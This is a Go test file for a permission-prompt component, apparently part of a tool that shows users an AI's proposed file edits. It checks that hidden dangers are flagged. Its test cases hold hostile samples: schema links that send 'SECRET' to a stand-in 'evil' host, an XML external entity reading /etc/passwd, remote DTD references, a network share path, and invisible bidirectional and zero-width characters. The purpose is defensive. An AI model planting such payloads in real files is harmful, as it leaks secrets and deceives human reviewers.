package permission

import (
	"strings"
	"testing"
	"unicode"

	"github.com/copilot-bridge/copilot-bridge/bridge/policy"
)

func TestTheQuestionPointsAtWhatCannotBeSeen(t *testing.T) {
	for name, c := range map[string]struct{ old, text, want string }{
		"remote $schema":   {"{}", `{"$schema":"https://evil/?d=SECRET"}`, "https://evil/?d=SECRET"},
		"yaml":             {"", "# yaml-language-server: $schema=http://evil/x\na: 1\n", "http://evil/x"},
		"doctype":          {"", `<!DOCTYPE a SYSTEM "http://evil/a.dtd"><a/>`, "http://evil/a.dtd"},
		"entity":           {"", `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>`, "file:///etc/passwd"},
		"schemaLocation":   {"", `<a xsi:schemaLocation="urn:x http://evil/x.xsd"/>`, "http://evil/x.xsd"},
		"taplo":            {"", "#:schema https://evil/x.json\n", "https://evil/x.json"},
		"network path":     {"", `{"$schema":"\\\\evil\\share"}`, `\\evil`},
		"it was there":     {`{"$schema":"https://known/x"}`, `{"$schema":"https://known/x","a":1}`, ""},
		"local":            {"", `{"$schema":"./x.json"}`, ""},
		"an ordinary link": {"", "see https://example.com\n", ""},
		"turned around":    {"", "if a {\n// \u202e } \u2066if admin\u2069", "<U+202E> in line 2"},
		"zero width":       {"", "a\u200bb", "<U+200B> in line 1"},
		"it had them":      {"\u202e", "\u202e x", ""},
	} {
		q := Question{Title: "Edit", Diffs: []FileDiff{{Path: "/w/a", OldText: c.old, NewText: c.text}}}
		q.Present()
		if got := strings.Join(q.Notes, "; "); !strings.Contains(got, c.want) || (c.want == "") != (got == "") {
			t.Errorf("%s: the notes are %q, want %q", name, got, c.want)
		}
		if q.Diffs[0].NewText != c.text {
			t.Errorf("%s: the text itself was changed", name)
		}
	}
}

func FuzzQuestion(f *testing.F) {
	for _, s := range []string{"", "a\nb", "\x1b[2J", "\u202ea", "a\u0000", "{\"command\":\"a\\u0000b\"}", "\xff", strings.Repeat(" ", 20)} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, text string) {
		q := Question{Title: text, Argv: []string{text}, Diffs: []FileDiff{{NewText: text}}, Env: []policy.EnvVar{{Name: text}}, Notes: []string{text}}
		q.Present()
		if strings.ContainsFunc(q.Title+strings.Join(q.Argv, "")+strings.Join(q.Notes, ""), unicode.IsControl) {
			t.Fatalf("shown as it is: %q %q %q", q.Title, q.Argv, q.Notes)
		}
	})
}

func TestThatAFileIsOutsideIsSaidOnce(t *testing.T) {
	const note, reason = "it is outside the session's folders", "/etc/hosts is outside the session's folders"
	for name, c := range map[string]struct {
		q    Question
		want int
	}{
		"the reason names the file":              {Question{Reason: reason, must: true}, 0},
		"the reason is another":                  {Question{Reason: "/etc/hosts may hold secrets", must: true}, 1},
		"the reason is no warning":               {Question{Reason: reason}, 1},
		"another file is outside too":            {Question{Reason: reason, must: true, Notes: []string{note}}, 1},
		"a command's folder may be another path": {Question{Reason: reason, must: true, Argv: []string{"ls"}}, 1},
	} {
		t.Run(name, func(t *testing.T) {
			c.q.Notes = append(c.q.Notes, note)
			c.q.Present()
			if len(c.q.Notes) != c.want {
				t.Errorf("the notes are %q", c.q.Notes)
			}
		})
	}
}
